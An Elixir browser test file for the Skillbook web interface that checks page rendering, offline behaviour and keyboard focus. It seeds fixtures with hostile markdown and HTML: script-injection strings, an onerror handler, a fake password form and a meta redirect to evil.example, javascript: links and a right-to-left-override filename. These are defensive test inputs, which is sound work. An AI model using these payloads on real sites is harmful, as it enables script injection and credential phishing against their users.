defmodule Skillbook.Web.BrowserTest do
  # The page in a real Chromium: every route in light, dark and narrow, without script, and with
  # documents of attackers.
  use Skillbook.SkillsCase, async: true

  alias Skillbook.{Agent, Model, Store}
  alias Skillbook.MCP.Client
  alias Skillbook.Test.{Browser, HostileServer}
  alias Skillbook.Web.{Page, Server}

  @moduletag :capture_log
  @moduletag :tmp_dir
  @moduletag timeout: 600_000

  @hostile """
  # <script>document.title = "owned"</script>

  <script>document.title = "owned"</script>
  <style>body { display: none }</style>
  <img src="https://evil.example/a.png" onerror="document.title = 'owned'">
  <form action="https://evil.example"><input name="password"><button>Sign in</button></form>
  <iframe src="https://evil.example"></iframe>
  <meta http-equiv="refresh" content="0;url=https://evil.example">
  <base href="https://evil.example/">

  ![a](https://evil.example/b.png) [b](javascript:document.title='owned')
  [c](data:text/html,<script>1</script>) [d](//evil.example "\\" onclick=x") <javascript:x>

  [e]: https://evil.example/c.png

  | a | b |
  |---|---|
  | #{String.duplicate("long", 200)} | \u202Egnp.exe |

  ```html" onload="x
  </code></pre><script>document.title = "owned"</script>
  ```

  #{String.duplicate("> ", 200)}deep

  #{String.duplicate("e\u0301\u0302\u0303", 50)}
  """

  # The elements that a keyboard must reach, numbered; radio buttons of a name count once.
  @focusable """
  (() => {
    const names = new Set();
    window.places = Array.from(document.querySelectorAll(
      "a[href], button, input:not([type=hidden]), select, textarea, summary, [tabindex='0']"
    )).filter((one) => {
      if (one.disabled || !one.checkVisibility({ visibilityProperty: true })) return false;
      // The button that Enter presses.
      if (one.ariaHidden === "true") return false;
      if (one.type !== "radio") return true;
      if (names.has(one.name)) return false;
      names.add(one.name);
      return true;
    });
    return window.places.length;
  })()
  """

  # The number of the focused element, and whether an outline or a shadow shows it.
  @focused """
  (() => {
    const at = document.activeElement;
    const style = getComputedStyle(at);
    const outline = style.outlineStyle !== "none" && parseFloat(style.outlineWidth) >= 1;
    return [window.places.indexOf(at), outline || style.boxShadow !== "none"];
  })()
  """

  # Values that a page shows in text, attributes, addresses and titles.
  @attack ~S|"><script>document.title='owned'</script><b x='|

  defp start(context) do
    name = :"browser_#{System.unique_integer([:positive])}"

    write(Path.join(context.tmp_dir, "skills"), %{
      "mail/SKILL.md" => "---\ndomain: mail\ndescription: All about mail\n---\n# Mail\n",
      "mail/send.md" =>
        page(
          "mail.send",
          [
            handler: "Skillbook.Test.EchoHandler",
            tags: "[mail, daily]",
            effects: "write",
            flags:
              "{to: {type: string, required: true}, " <>
                "copies: {type: integer, default: 1, min: 1}, " <>
                "kind: {values: [note, letter]}, urgent: {type: boolean}}"
          ],
          "# Send\n\nSends a mail.\n"
        ),
      "guide/SKILL.md" =>
        "---\nname: guide\ndescription: How we write\n---\n# Guide\n\n- [ ] one\n- [x] two\n",
      "guide/extra.md" => "# Extra\n",
      "evil/SKILL.md" =>
        "---\nname: evil\ndescription: #{inspect(@attack)}\ntags: [#{inspect(@attack)}]\n" <>
          "title: #{inspect(@attack)}\n---\n" <> @hostile,
      "broken.md" => "---\nname: [\n---\n",
      "mail/fixable.md" => "---\nname: mail.fixable\ndescription: Sends: mail\n---\n# Mail\n",
      "mail/flow.md" =>
        page(
          "mail.flow",
          [schedule: "\"0 8 * * *\"", description: inspect(@attack)],
          "## Behavior\n\n```cmd\nmail.send --to #{inspect(@attack)}\n```\n"
        ),
      "mail/ask.md" =>
        page("mail.ask", handler: "Skillbook.Test.EchoHandler", approval: "required")
    })

    start_supervised!(
      {Skillbook,
       name: name,
       builtins: ["tasks.create"],
       sources: [
         Path.join(context.tmp_dir, "skills"),
         {:mcp, HostileServer.start() <> "/read", label: "docs", timeout: 5_000}
       ],
       write_to: Path.join(context.tmp_dir, "skills"),
       store: Path.join(context.tmp_dir, "book.db"),
       profiles: [
         [id: "default", grants: ["team"], writes: :run],
         [id: "guest", writes: :deny]
       ],
       conversations: [],
       durable: true,
       agent: [model: Model.Function.new(fn _messages, _options -> @attack end)],
       schedules: [run_as: "default"],
       ask: fn _request -> :pending end}
    )

    :ok = Client.await(name)

    # Runs, failures, a call that waits, and a conversation.
    model =
      Model.Function.new(fn messages, _options ->
        if List.last(messages).content =~ ~r/\A\[1\]/, do: @attack, else: "```cmd\nmail.flow\n```"
      end)

    {:ok, _} = Agent.run(name, @attack, model: model)
    lines = ["mail.ask --to #{inspect(@attack)}", "mail.flow", "tasks.create", "mail.send"]
    Skillbook.run(name, "```cmd\n#{Enum.join(lines, "\n")}\n```")

    {:ok, _} =
      Store.create(
        name,
        %{
          name: "minutes",
          title: "Minutes",
          description: "How we take minutes",
          content: @hostile
        },
        profile: "default"
      )

    {:ok, _} =
      Store.update(name, "minutes", %{description: "How we take short minutes"},
        profile: "default"
      )

    %{port: port, url: url} = name |> serve(0) |> Server.info()
    %{book: name, port: port, url: url}
  end

  defp serve(book, port) do
    options = [book: book, port: port, authenticate: :none, profile: "default"]
    start_supervised!(Supervisor.child_spec({Server, options}, id: :server))
  end

  setup context, do: start(context)

  test "every page is sound in light, dark and narrow, and does its work without script", %{
    url: url
  } do
    visited = crawl(url)

    shown =
      for {"GET", pattern, module, _function} <- Page.routes(),
          # Vendors lead to the pages of sign-ins, see `SignInBrowserTest`.
          module not in [Page.Assets, Page.Events, Page.SignIn],
          do: pattern

    # A page that no link leads to is found by nobody.
    assert shown -- Enum.map(visited, fn {pattern, _path} -> pattern end) == []

    findings =
      for options <- [[theme: :light], [theme: :dark], [width: 360, height: 640]],
          page = Browser.open(url, options),
          {_pattern, path} <- visited,
          Browser.goto(page, path),
          owned = if(Browser.title(page) =~ ~r/\Aowned/, do: ["#{path} runs a script"], else: []),
          finding <- owned ++ Browser.findings(page),
          do: finding

    assert findings == [], Enum.join(findings, "\n")

    page = Browser.open(url, script: false)

    for {_pattern, path} <- visited do
      Browser.goto(page, path)
      assert Browser.count(page, "h1") == 1
    end
  end

  test "a page says that the server has gone, and shows the changes when it is back", %{
    book: book,
    port: port,
    url: url
  } do
    page = Browser.open(url) |> Browser.goto("/skills")
    Browser.wait(page, text: "minutes")

    :ok = stop_supervised(:server)
    Browser.wait(page, text: "Not connected. This page may be out of date; trying again.")
    Browser.problems(page)

    fields = %{name: "later", title: "Later", description: "Written meanwhile", content: "x"}
    {:ok, _} = Store.create(book, fields, profile: "default")
    serve(book, port)
    Browser.wait(page, role: "link", name: "later")
    Browser.wait(page, "#connection", :hidden)

    # The stream goes on.
    {:ok, _} = Store.delete(book, "later", profile: "default")
    Browser.wait(page, [role: "link", name: "later"], :detached)
  end

  test "a keyboard reaches every link, button and field, and the focus is seen", %{url: url} do
    page = Browser.open(url)

    for path <- [
          "/skills",
          "/skills/minutes",
          "/skills/minutes/edit",
          "/import",
          "/skills/mail.send",
          "/",
          "/chat",
          "/prompt",
          "/try",
          "/try/mail.send",
          "/route",
          "/tools",
          "/explain",
          "/runs",
          "/approvals",
          "/agents",
          "/conversations",
          "/usage",
          "/connections",
          "/servers",
          "/diagnostics",
          "/status",
          "/new",
          "/new/file"
        ] do
      Browser.goto(page, path)
      expected = Browser.evaluate(page, @focusable)
      assert expected > 3

      reached =
        for _ <- 1..expected, reduce: MapSet.new() do
          reached ->
            Browser.press(page, "Tab")
            [index, visible] = Browser.evaluate(page, @focused)
            assert visible, "#{path}: the focus on element #{index} is not seen"
            MapSet.put(reached, index)
        end

      assert MapSet.size(reached) == expected, path
    end
  end

  # One path of each route that answers with a page, for each entry.
  defp crawl(url) do
    page = Browser.open(url) |> Browser.goto("/chat")
    Browser.fill(page, "#text", @attack)
    Browser.click(page, role: "button", name: "Send")
    Browser.wait_url(page, "**/chat/*")
    visit(page, url, ["/"], %{}, MapSet.new())
  end

  defp visit(_page, _url, [], found, _seen),
    do: for({{pattern, _}, path} <- found, do: {pattern, path})

  defp visit(page, url, [path | rest], found, seen) do
    pattern = pattern(path)
    entry = Enum.at(segments(path), 1)
    key = {pattern, entry}

    cond do
      MapSet.member?(seen, path) or pattern == nil or Map.has_key?(found, key) ->
        visit(page, url, rest, found, seen)

      page?(url <> path) ->
        Browser.goto(page, path)
        links = links(page, url)
        visit(page, url, rest ++ links, Map.put(found, key, path), MapSet.put(seen, path))

      true ->
        # A download, or an answer for programs.
        visit(page, url, rest, Map.put(found, key, "/"), MapSet.put(seen, path))
    end
  end

  defp page?(url) do
    {:ok, response} = Skillbook.HTTP.request(method: :get, url: url)
    type = Enum.join(response.headers["content-type"] || [])
    response.status in 300..399 or (response.status == 200 and type =~ "text/html")
  end

  defp links(page, url) do
    script = "Array.from(document.querySelectorAll('a[href]')).map(a => a.href)"

    for href <- Browser.evaluate(page, script),
        String.starts_with?(href, url),
        do: href |> String.replace_prefix(url, "") |> String.split("#") |> hd()
  end

  defp segments(path) do
    for part <- String.split(URI.parse(path).path || "/", "/", trim: true), do: URI.decode(part)
  end

  defp pattern(path) do
    segments = segments(path)

    Enum.find_value(Page.routes(), fn
      {"GET", pattern, _module, _function} -> if fits?(pattern, segments), do: pattern
      _other -> nil
    end)
  end

  defp fits?([], []), do: true
  defp fits?([{:rest, _}], [_ | _]), do: true
  defp fits?([name | pattern], [_ | path]) when is_atom(name), do: fits?(pattern, path)
  defp fits?([part | pattern], [part | path]), do: fits?(pattern, path)
  defp fits?(_pattern, _path), do: false
end
